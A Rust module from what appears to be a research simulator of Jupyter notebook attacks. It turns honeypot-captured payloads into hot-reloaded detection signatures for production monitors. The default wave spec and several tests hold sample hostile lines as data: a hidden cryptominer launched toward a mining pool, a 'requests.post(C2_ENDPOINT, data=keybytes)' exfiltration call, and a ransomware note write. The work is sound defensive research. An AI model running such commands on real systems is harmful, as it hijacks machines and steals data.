//! The honeypot-intel loop: decoy → signature → hot-reloaded monitor
//! rules.
//!
//! The paper's §IV.A lesson is that defenders "deploy Jupyter Notebook
//! monitors early at the network edges, for example, on a set of
//! honeypots, to catch the latest signatures of attacks in the wild" —
//! *before* they reach production instances. This module closes that
//! loop inside the streamed pipeline:
//!
//! 1. A deployment built with [`DeploymentSpec::decoys`] hosts real,
//!    deliberately exposed decoy servers; [`build_wave`] constructs an
//!    internet-wave [`Campaign`] that visits production servers and
//!    decoys in shuffled order, so decoys receive *real* campaign
//!    traffic through the scenario stream. An attacker skips a decoy
//!    it [`fingerprinted`].
//! 2. While [`Pipeline::run`] pumps the stream, an intel loop watches
//!    kernel-audit items from decoy servers. Anything executing on a
//!    decoy is hostile by construction; each such cell counts as a
//!    capture.
//! 3. Every distinct captured payload (keyed on its
//!    [`distinctive_token`]) yields a signature ([`rule_from_capture`])
//!    published into the monitor's hot-reloadable [`RuleFeed`] with
//!    `available_at = learned_at + propagation` — so production flows
//!    that begin after propagation raise
//!    [`AlertSource::HoneypotIntel`](ja_monitor::alerts::AlertSource)
//!    alerts mid-stream, and nothing matches retroactively. The feed is
//!    the loop's one record of what it learned: the signature sequence
//!    number, the payload dedup index and the run's
//!    [`IntelOutcome::published`] list are all derived from it.
//!
//! Each publish bumps the feed's generation epoch; monitor shards key
//! their compiled Aho-Corasick snapshot on it
//! ([`ja_monitor::matcher::FeedCache`]), so between publishes the
//! per-flow intel cost is one atomic load — no lock, no rescan — and a
//! publish triggers exactly one recompile per shard.
//!
//! [`DeploymentSpec::decoys`]: ja_kernelsim::deployment::DeploymentSpec::decoys
//! [`Pipeline::run`]: crate::pipeline::Pipeline::run

use ja_attackgen::campaign::{Campaign, CampaignStep};
use ja_attackgen::stream::ScenarioItem;
use ja_attackgen::AttackClass;
use ja_kernelsim::actions::{Action, CellScript};
use ja_kernelsim::deployment::{Deployment, DeploymentSpec};
use ja_kernelsim::events::SysEventKind;
use ja_monitor::rules::{FeedCheckpoint, Pattern, Rule, RuleFeed, RuleOrigin};
use ja_netsim::addr::HostAddr;
use ja_netsim::rng::SimRng;
use ja_netsim::time::{Duration, SimTime};
use std::collections::HashSet;

/// Tokens too common in benign scientific code to be signatures.
const BENIGN_VOCAB: &[&str] = &[
    "import",
    "numpy",
    "pandas",
    "print",
    "range",
    "model",
    "train",
    "data",
    "read_csv",
    "describe",
    "install",
    "python",
    "matplotlib",
    "torch",
    "return",
    "lambda",
    "append",
    "figure",
    "plot",
    "shape",
    "array",
    "float",
    "update",
    "values",
];

/// Extract the most distinctive token from hostile code: the longest
/// token of length ≥ 5 that is not benign vocabulary. Falls back to the
/// leading 24 characters when nothing qualifies.
///
/// The benign check compares *whole identifiers*, not substrings: a
/// payload token that merely contains a benign word
/// (`cryptominer_update_v2` contains `update`) is exactly the kind of
/// malware-specific string we want as a signature, not something to
/// discard. Dotted compounds are rejected when *any* component is a
/// benign identifier: `pandas.read_csv`, `matplotlib.pyplot` or
/// `torch.nn.Linear` must never become signatures — they would match
/// half the benign notebooks in the fleet.
pub fn distinctive_token(code: &str) -> String {
    let is_benign = |token: &str| token.split('.').any(|part| BENIGN_VOCAB.contains(&part));
    let mut best: Option<&str> = None;
    for token in code.split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.')) {
        if token.len() < 5 {
            continue;
        }
        let lower = token.to_ascii_lowercase();
        if is_benign(&lower) {
            continue;
        }
        if best.map(|b| token.len() > b.len()).unwrap_or(true) {
            best = Some(token);
        }
    }
    match best {
        Some(t) => t.to_string(),
        None => code.chars().take(24).collect(),
    }
}

/// Build a code-substring rule from a captured payload. `decoy_id` and
/// `seq` make the rule id unique; the class is the decoy operator's
/// triage verdict (campaign class in our experiments).
pub fn rule_from_capture(decoy_id: u32, seq: usize, class: AttackClass, code: &str) -> Rule {
    Rule {
        id: format!("hp-{decoy_id}-{seq}"),
        class,
        pattern: Pattern::CodeSubstring(distinctive_token(code)),
        confidence: 0.85,
        origin: RuleOrigin::HoneypotIntel,
    }
}

/// Does a fingerprinting attacker identify (and skip) a decoy?
/// `realism` in [0, 1] is how well the decoy resists fingerprinting
/// (the paper cites a taxonomy of honeypot-fingerprinting techniques;
/// realism is the defender-side summary of it) and is clamped to that
/// range. `sophistication` in [0, 1] is the probability mass the
/// attacker invests in fingerprinting. One draw from `rng`.
pub fn fingerprinted(realism: f64, sophistication: f64, rng: &mut SimRng) -> bool {
    // A fully realistic decoy is never identified; a naive decoy is
    // caught by any attacker that bothers to check.
    rng.chance(sophistication * (1.0 - realism.clamp(0.0, 1.0)))
}

/// A published rule with its availability time: a rule learned at the
/// edge becomes usable by production monitors after a propagation delay
/// (triage + push).
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
pub struct PublishedRule {
    /// When the decoy captured the underlying payload.
    pub learned_at: SimTime,
    /// When production monitors can use it.
    pub available_at: SimTime,
    /// The rule.
    pub rule: Rule,
}

/// Configuration of the pipeline-owned intel loop. Present (`Some`) on
/// a [`PipelineConfig`](crate::pipeline::PipelineConfig) it activates
/// decoy capture + signature publication in the pipeline; absent
/// it changes nothing, decoys or not.
#[derive(Clone, Debug)]
pub struct IntelConfig {
    /// Triage + distribution latency between a decoy capture and the
    /// signature becoming usable by production monitors.
    pub propagation: Duration,
    /// Realism of the decoy fleet in [0, 1] (resistance to
    /// fingerprinting; see [`fingerprinted`]).
    pub realism: f64,
    /// The class a decoy operator's triage assigns to captured
    /// payloads (our experiments run single-class waves, so this is
    /// the wave's class).
    pub triage_class: AttackClass,
}

impl Default for IntelConfig {
    fn default() -> Self {
        IntelConfig {
            propagation: Duration::from_secs(600),
            realism: 0.9,
            triage_class: AttackClass::Cryptomining,
        }
    }
}

/// Per-run state of the intel loop: which servers are decoys, the
/// capture count and the live feed handle shared with the monitor
/// shards.
pub(crate) struct IntelLoop {
    /// Server id of the first decoy (production ids are below it).
    decoy_base: u32,
    decoys: u32,
    captures: u64,
    first_capture: Option<SimTime>,
    propagation: Duration,
    feed: RuleFeed,
    /// Payload tokens the feed already signs: an index over the feed's
    /// rules, rebuilt on restore rather than checkpointed.
    tokens: HashSet<String>,
    triage_class: AttackClass,
}

impl IntelLoop {
    /// Fresh loop state for one streamed run over a deployment built
    /// from `spec`: no captures and an empty feed.
    pub(crate) fn new(cfg: &IntelConfig, spec: &DeploymentSpec) -> Self {
        IntelLoop {
            decoy_base: spec.servers as u32,
            decoys: spec.decoys as u32,
            captures: 0,
            first_capture: None,
            propagation: cfg.propagation,
            feed: RuleFeed::new(),
            tokens: HashSet::new(),
            triage_class: cfg.triage_class,
        }
    }

    /// The hot-reload feed the run's monitor should consult.
    pub(crate) fn feed(&self) -> &RuleFeed {
        &self.feed
    }

    /// Watch one scenario item. A `CellExecute` audit event on a decoy
    /// server is an attacker interaction: count it, and publish a
    /// signature for every payload not yet signed. Publication happens
    /// *inside* the pump loop, so by stream ordering every flow a rule
    /// may match (flows beginning at/after `available_at`) is analyzed
    /// with the rule already in the feed.
    pub(crate) fn observe(&mut self, item: &ScenarioItem) {
        let ScenarioItem::Sys(ev) = item else { return };
        if !(self.decoy_base..self.decoy_base + self.decoys).contains(&ev.server_id) {
            return;
        }
        let SysEventKind::CellExecute { code, .. } = &ev.kind else {
            return;
        };
        self.captures += 1;
        // The stream is time-ordered, so the first capture is the
        // earliest.
        self.first_capture.get_or_insert(ev.time);
        if self.tokens.insert(distinctive_token(code)) {
            let rule = rule_from_capture(ev.server_id, self.feed.len(), self.triage_class, code);
            let inserted = self.feed.publish(ev.time + self.propagation, rule);
            // Token-dedup guarantees a fresh id, so every publish must
            // bump the feed epoch (one shard recompile each).
            debug_assert!(inserted, "duplicate rule id escaped token dedup");
        }
    }

    /// Finish the run: the capture count and everything the feed
    /// published.
    pub(crate) fn into_outcome(self) -> IntelOutcome {
        // Availability is learned-at plus propagation, exact in u64
        // microseconds, so subtracting recovers the capture instant.
        let published: Vec<PublishedRule> = self
            .feed
            .snapshot()
            .into_iter()
            .map(|t| PublishedRule {
                learned_at: SimTime(t.available_at.0 - self.propagation.0),
                available_at: t.available_at,
                rule: t.rule,
            })
            .collect();
        IntelOutcome {
            captures: self.captures as usize,
            first_capture: self.first_capture,
            first_available: published.iter().map(|p| p.available_at).min(),
            published,
        }
    }

    /// What the configuration cannot rebuild of the loop's state.
    /// Restoring it (possibly in another process) under the same
    /// configuration yields a loop that observes the remainder of a
    /// stream exactly as this one would have.
    pub(crate) fn snapshot(&self) -> IntelSnapshot {
        IntelSnapshot {
            captures: self.captures,
            first_capture: self.first_capture,
            feed: self.feed.checkpoint(),
        }
    }

    /// Rebuild a loop from a checkpointed state instead of starting
    /// fresh — the service epoch loop's way of carrying learned
    /// signatures (and their dedup history) across epochs and restarts.
    pub(crate) fn restore(cfg: &IntelConfig, spec: &DeploymentSpec, snap: &IntelSnapshot) -> Self {
        IntelLoop {
            captures: snap.captures,
            first_capture: snap.first_capture,
            feed: RuleFeed::restore(&snap.feed),
            tokens: snap
                .feed
                .rules
                .iter()
                .filter_map(|t| match &t.rule.pattern {
                    Pattern::CodeSubstring(token) => Some(token.clone()),
                    _ => None,
                })
                .collect(),
            ..IntelLoop::new(cfg, spec)
        }
    }
}

/// Checkpointed state of the honeypot intel loop: what the
/// [`IntelConfig`] and the deployment spec cannot rebuild — the capture
/// count and the hot-reload feed's rules. Everything `IntelLoop` needs
/// to resume mid-service without re-learning or double-publishing a
/// signature.
#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct IntelSnapshot {
    /// Attacker interactions captured so far across the decoy fleet.
    pub captures: u64,
    /// Earliest decoy capture, if any.
    pub first_capture: Option<SimTime>,
    /// Hot-reload feed contents.
    pub feed: FeedCheckpoint,
}

/// What the intel loop did during one streamed run.
#[derive(Clone, Debug)]
pub struct IntelOutcome {
    /// Total attacker interactions captured across the fleet.
    pub captures: usize,
    /// Rules published to the feed (one per distinct payload, first
    /// capture each), in publish order.
    pub published: Vec<PublishedRule>,
    /// Earliest decoy capture, if any.
    pub first_capture: Option<SimTime>,
    /// Earliest instant a published signature reached production
    /// monitors, if any.
    pub first_available: Option<SimTime>,
}

impl IntelOutcome {
    /// Production visits of a wave started at `start` (see
    /// [`WaveCampaign::production_visits`]) whose payload cell ran
    /// before any signature reached production monitors.
    pub fn victims_hit(&self, start: SimTime, visits: &[(usize, Duration)]) -> usize {
        visits
            .iter()
            .filter(|(_, off)| self.first_available.map_or(true, |a| start + *off < a))
            .count()
    }
}

/// Parameters of an internet-scale attack wave against one deployment:
/// the mass-scanning campaign of E6(c)/A1, now expressed as a real
/// [`Campaign`] the streamed pipeline executes.
#[derive(Clone, Debug)]
pub struct WaveSpec {
    /// Class of the wave's payload.
    pub class: AttackClass,
    /// The payload cell dropped on every reachable target.
    pub payload_code: String,
    /// The payload's host-side effects (the audit-plane half of the
    /// cell). Override together with `payload_code` when studying a
    /// different payload.
    pub payload_actions: Vec<Action>,
    /// Seconds-scale gap between successive target visits.
    pub inter_visit: Duration,
    /// Attacker fingerprinting sophistication in [0, 1]: probability
    /// mass invested in identifying (and skipping) decoys.
    pub sophistication: f64,
    /// The attacker's source address (external).
    pub attacker: HostAddr,
}

impl Default for WaveSpec {
    fn default() -> Self {
        WaveSpec {
            class: AttackClass::Cryptomining,
            // Distinct from every builtin signature, so detections of
            // this payload isolate the honeypot-intel loop.
            payload_code:
                "subprocess.Popen(['/tmp/.kinsing_cryptonight_v7','-o','xmr.darkpool:7777'])".into(),
            payload_actions: vec![
                Action::Exec {
                    name: "kinsing".into(),
                    cmdline: "/tmp/.kinsing_cryptonight_v7 -o xmr.darkpool:7777".into(),
                },
                Action::Connect {
                    dst: HostAddr::external(0x66),
                    dst_port: 7777,
                },
                Action::SendBytes {
                    bytes: 256,
                    entropy_high: false,
                },
            ],
            inter_visit: Duration::from_secs(120),
            sophistication: 0.0,
            attacker: HostAddr::external(0xBEEF),
        }
    }
}

/// A built wave: the executable campaign plus the visit schedule the
/// ablation needs to count exposure.
#[derive(Clone, Debug)]
pub struct WaveCampaign {
    /// The campaign to hand to the pipeline.
    pub campaign: Campaign,
    /// `(server, payload-cell offset)` for every production visit, in
    /// visit order.
    pub production_visits: Vec<(usize, Duration)>,
    /// `(server, payload-cell offset)` for every decoy the attacker
    /// actually engaged.
    pub decoy_visits: Vec<(usize, Duration)>,
    /// Decoys the attacker fingerprinted and skipped (probe only).
    pub decoys_skipped: usize,
}

/// Build a wave over `deployment`: every server — production and decoy
/// alike — is probed and, unless the target is a decoy the attacker
/// fingerprints (probability grows with `spec.sophistication` and
/// shrinks with `intel.realism`), receives the payload cell. Visit
/// order is a deterministic shuffle from `rng`; the attacker cannot
/// tell bait from production up front. Taking the same [`IntelConfig`]
/// the pipeline runs with keeps the wave's fingerprint model and the
/// decoy fleet's configured realism in sync by construction.
pub fn build_wave(
    deployment: &Deployment,
    intel: &IntelConfig,
    spec: &WaveSpec,
    rng: &mut SimRng,
) -> WaveCampaign {
    let mut targets: Vec<usize> = (0..deployment.servers.len()).collect();
    for i in (1..targets.len()).rev() {
        let j = rng.range(0, (i + 1) as u64) as usize;
        targets.swap(i, j);
    }
    let script = CellScript::new(&spec.payload_code, spec.payload_actions.clone());
    let mut steps = Vec::new();
    let mut production_visits = Vec::new();
    let mut decoy_visits = Vec::new();
    let mut decoys_skipped = 0usize;
    for (i, &server) in targets.iter().enumerate() {
        let probe_at = spec.inter_visit * i as u64;
        steps.push(CampaignStep::Probe {
            src: spec.attacker,
            server,
            port: deployment.servers[server].port,
            offset: probe_at,
        });
        let drop_at = probe_at + Duration::from_secs(1);
        if deployment.is_decoy(server) {
            if fingerprinted(intel.realism, spec.sophistication, rng) {
                decoys_skipped += 1;
                continue;
            }
            decoy_visits.push((server, drop_at));
        } else {
            production_visits.push((server, drop_at));
        }
        steps.push(CampaignStep::Cell {
            server,
            user: deployment.owner_of(server).to_string(),
            offset: drop_at,
            script: script.clone(),
        });
    }
    WaveCampaign {
        campaign: Campaign::scripted(
            Some(spec.class),
            &format!("wave-{}", spec.class.label()),
            steps,
        ),
        production_visits,
        decoy_visits,
        decoys_skipped,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Four production servers, then `decoys` decoys (ids 4, 5, …).
    fn lab(decoys: usize) -> DeploymentSpec {
        DeploymentSpec::small_lab(3).with_decoys(decoys)
    }

    fn site(decoys: usize) -> Deployment {
        Deployment::build(&lab(decoys))
    }

    #[test]
    fn wave_visits_every_reachable_target_once() {
        let d = site(2);
        let mut rng = SimRng::new(1);
        let w = build_wave(&d, &IntelConfig::default(), &WaveSpec::default(), &mut rng);
        assert_eq!(w.production_visits.len(), 4);
        assert_eq!(w.decoy_visits.len() + w.decoys_skipped, 2);
        // One probe per server, one payload cell per engaged target.
        let probes = w
            .campaign
            .steps
            .iter()
            .filter(|s| matches!(s, CampaignStep::Probe { .. }))
            .count();
        assert_eq!(probes, 6);
    }

    #[test]
    fn naive_attacker_never_skips_decoys() {
        let d = site(3);
        let mut rng = SimRng::new(2);
        let spec = WaveSpec {
            sophistication: 0.0,
            ..Default::default()
        };
        let naive = IntelConfig {
            realism: 0.0,
            ..Default::default()
        };
        let w = build_wave(&d, &naive, &spec, &mut rng);
        assert_eq!(w.decoys_skipped, 0);
        assert_eq!(w.decoy_visits.len(), 3);
    }

    #[test]
    fn expert_attacker_skips_naive_decoys() {
        let d = site(3);
        let mut rng = SimRng::new(2);
        let spec = WaveSpec {
            sophistication: 1.0,
            ..Default::default()
        };
        let naive = IntelConfig {
            realism: 0.0,
            ..Default::default()
        };
        let w = build_wave(&d, &naive, &spec, &mut rng);
        assert_eq!(w.decoys_skipped, 3);
        assert!(w.decoy_visits.is_empty());
    }

    /// A cell execution on `server_id` at `t` seconds.
    fn exec(server_id: u32, t: u64, code: &str) -> ScenarioItem {
        use ja_kernelsim::events::SysEvent;
        ScenarioItem::Sys(SysEvent {
            time: SimTime::from_secs(t),
            server_id,
            user: "svc-decoy-0".into(),
            kind: SysEventKind::CellExecute {
                kernel_id: 0,
                code: code.into(),
            },
        })
    }

    #[test]
    fn intel_loop_captures_and_publishes_once_per_payload() {
        let d = lab(2);
        let cfg = IntelConfig {
            propagation: Duration::from_secs(300),
            ..Default::default()
        };
        let mut il = IntelLoop::new(&cfg, &d);
        // Production executions are invisible to the loop.
        il.observe(&exec(0, 5, "evil_dropper_v1()"));
        // Two captures of the same payload on different decoys: one rule.
        il.observe(&exec(4, 10, "evil_dropper_v1()"));
        il.observe(&exec(5, 20, "evil_dropper_v1()"));
        // A distinct payload publishes its own rule.
        il.observe(&exec(5, 30, "evil_dropper_v2()"));
        assert_eq!(il.feed().len(), 2);
        let out = il.into_outcome();
        assert_eq!(out.captures, 3);
        assert_eq!(out.published.len(), 2);
        // Each rule is learned at its payload's first capture.
        let learned: Vec<_> = out.published.iter().map(|p| p.learned_at).collect();
        assert_eq!(learned, [SimTime::from_secs(10), SimTime::from_secs(30)]);
        assert_eq!(out.first_capture, Some(SimTime::from_secs(10)));
        // learned at 10s + 300s propagation.
        assert_eq!(out.first_available, Some(SimTime::from_secs(310)));
    }

    #[test]
    fn rules_become_available_after_delay() {
        let d = lab(1);
        let cfg = IntelConfig {
            propagation: Duration::from_secs(600),
            ..Default::default()
        };
        let mut il = IntelLoop::new(&cfg, &d);
        il.observe(&exec(4, 100, "evil_dropper_v1()"));
        assert!(il.feed().rules_at(SimTime::from_secs(699)).is_empty());
        assert_eq!(il.feed().rules_at(SimTime::from_secs(700)).len(), 1);
        let out = il.into_outcome();
        assert_eq!(out.published[0].learned_at, SimTime::from_secs(100));
        assert_eq!(out.first_available, Some(SimTime::from_secs(700)));
    }

    #[test]
    fn merges_over_base_without_duplicates() {
        let d = lab(2);
        let cfg = IntelConfig {
            propagation: Duration::ZERO,
            ..Default::default()
        };
        let mut il = IntelLoop::new(&cfg, &d);
        // The same payload captured on both decoys signs once.
        il.observe(&exec(4, 0, "evil_dropper_v1()"));
        il.observe(&exec(5, 0, "evil_dropper_v1()"));
        // Re-publishing an id the feed already holds is refused.
        let dup = il.feed().snapshot()[0].rule.clone();
        assert!(!il.feed().publish(SimTime::ZERO, dup));
        let mut merged = ja_monitor::rules::RuleSet::builtin();
        let base = merged.len();
        il.feed()
            .for_each_available(SimTime::from_secs(1), |r| merged.add(r.clone()));
        assert_eq!(merged.len(), base + 1);
    }

    #[test]
    fn empty_bus() {
        let il = IntelLoop::new(&IntelConfig::default(), &lab(2));
        assert!(il.feed().is_empty());
        let out = il.into_outcome();
        assert!(out.published.is_empty());
        assert_eq!(out.first_available, None);
    }

    #[test]
    fn victims_hit_counts_visits_before_first_availability() {
        let d = lab(1);
        let mut out = IntelLoop::new(&IntelConfig::default(), &d).into_outcome();
        let visits = [(0, Duration::from_secs(10)), (1, Duration::from_secs(40))];
        let start = SimTime::from_secs(60);
        assert_eq!(out.victims_hit(start, &visits), 2);
        // Only visits strictly before availability land.
        out.first_available = Some(SimTime::from_secs(100));
        assert_eq!(out.victims_hit(start, &visits), 1);
        out.first_available = Some(SimTime::from_secs(70));
        assert_eq!(out.victims_hit(start, &visits), 0);
    }

    #[test]
    fn intel_snapshot_round_trips_and_keeps_dedup_across_restore() {
        let d = lab(2);
        let mut il = IntelLoop::new(&IntelConfig::default(), &d);
        il.observe(&exec(4, 10, "evil_dropper_v1()"));
        il.observe(&exec(5, 20, "evil_dropper_v2()"));
        let snap = il.snapshot();
        // Serde round trip through JSON preserves the snapshot exactly.
        let json = serde_json::to_string(&snap).unwrap();
        let back: IntelSnapshot =
            serde::Deserialize::from_value(&serde_json::from_str(&json).unwrap()).unwrap();
        assert_eq!(back, snap);
        assert_eq!(back.feed.rules.len(), 2);

        // A restored loop dedups payloads learned before the restore
        // (no re-publish) but still learns genuinely new ones, numbering
        // them after the feed's rules.
        let mut restored = IntelLoop::restore(&IntelConfig::default(), &d, &back);
        assert_eq!(restored.feed().len(), 2);
        let epoch_before = restored.feed().epoch();
        restored.observe(&exec(4, 30, "evil_dropper_v1()"));
        assert_eq!(restored.feed().len(), 2, "old payload re-published");
        assert_eq!(restored.feed().epoch(), epoch_before);
        restored.observe(&exec(4, 40, "evil_dropper_v3()"));
        assert_eq!(restored.feed().len(), 3);
        let out = restored.into_outcome();
        // The capture count carried over, plus the two new interactions.
        assert_eq!(out.captures, 4);
        assert_eq!(out.published.len(), 3);
        assert_eq!(out.published[2].rule.id, "hp-4-2");
    }

    #[test]
    fn realism_bounds_fingerprinting() {
        let mut rng = SimRng::new(1);
        let mut hits = |realism| {
            (0..1000)
                .filter(|_| fingerprinted(realism, 1.0, &mut rng))
                .count()
        };
        assert_eq!(hits(1.0), 0);
        assert!(hits(0.0) > 900);
    }

    #[test]
    fn unsophisticated_attacker_never_fingerprints() {
        let mut rng = SimRng::new(2);
        assert!(!(0..100).any(|_| fingerprinted(0.0, 0.0, &mut rng)));
    }

    #[test]
    fn realism_clamped() {
        // Unclamped, realism -1.0 at sophistication 0.5 would always
        // fingerprint.
        let mut rng = SimRng::new(3);
        assert!((0..100).any(|_| !fingerprinted(-1.0, 0.5, &mut rng)));
        assert!(!(0..100).any(|_| fingerprinted(7.0, 1.0, &mut rng)));
    }

    #[test]
    fn extracts_malware_specific_token() {
        let t = distinctive_token("subprocess.Popen(['/tmp/.x','-o','pool:3333'])");
        assert!(t.contains("subprocess.Popen") || t.contains("/tmp/.x") || t.len() >= 5);
        // Must not be a benign-vocabulary word.
        assert!(!BENIGN_VOCAB.contains(&t.to_ascii_lowercase().as_str()));
    }

    #[test]
    fn benign_heavy_code_falls_back() {
        let t = distinctive_token("import numpy");
        assert_eq!(t, "import numpy"); // fallback prefix (< 24 chars)
    }

    #[test]
    fn token_containing_benign_word_is_still_distinctive() {
        // Regression: `lower.contains(b)` used to reject any token that
        // merely contained a benign word, so this payload fell through
        // to the weak 24-char-prefix fallback.
        let t = distinctive_token("run('/opt/cryptominer_update_v2 --wallet 4A6h')");
        assert_eq!(t, "cryptominer_update_v2");
        // Whole-token matches are still rejected.
        let t2 = distinctive_token("update describe import");
        assert_eq!(t2, "update describe import"); // prefix fallback
    }

    #[test]
    fn dotted_benign_compounds_never_become_signatures() {
        // `pandas.read_csv` / `matplotlib.pyplot` / `df.describe` are
        // single tokens (the tokenizer keeps '.'); any benign component
        // disqualifies them — publishing one as a rule would alert on
        // half the benign notebooks in the fleet.
        let code = "import pandas\npandas.read_csv('http://e/x')";
        let t = distinctive_token(code);
        assert_eq!(t, code.chars().take(24).collect::<String>()); // fallback
        let code2 = "df = pd.read_csv('x')\ndf.describe()";
        let t2 = distinctive_token(code2);
        assert_eq!(t2, code2.chars().take(24).collect::<String>()); // fallback

        // A benign import must not out-length the actual malware token
        // even when one of its components is missing from the vocab.
        let t3 = distinctive_token("import matplotlib.pyplot\nrun('/tmp/.xmrig_y7')");
        assert_eq!(t3, ".xmrig_y7");
    }

    #[test]
    fn rules_are_honeypot_attributed() {
        let rule = rule_from_capture(1, 0, AttackClass::Cryptomining, "evil_stratum_loader()");
        assert_eq!(rule.origin, RuleOrigin::HoneypotIntel);
    }

    #[test]
    fn rule_matches_its_own_payload() {
        let code = "open('README_RESTORE.txt','w').write(note)";
        let rule = rule_from_capture(3, 0, AttackClass::Ransomware, code);
        match &rule.pattern {
            Pattern::CodeSubstring(s) => assert!(code.contains(s.as_str()), "{s}"),
            p => panic!("unexpected pattern {p:?}"),
        }
        assert!(rule.id.starts_with("hp-3-"));
    }

    #[test]
    fn rule_does_not_match_typical_benign_cell() {
        let benign = "df = pd.read_csv('data.csv')\ndf.describe()";
        let hostile = "requests.post(C2_ENDPOINT, data=keybytes)";
        let rule = rule_from_capture(1, 0, AttackClass::DataExfiltration, hostile);
        if let Pattern::CodeSubstring(s) = &rule.pattern {
            assert!(!benign.contains(s.as_str()), "signature {s} too generic");
        }
    }
}
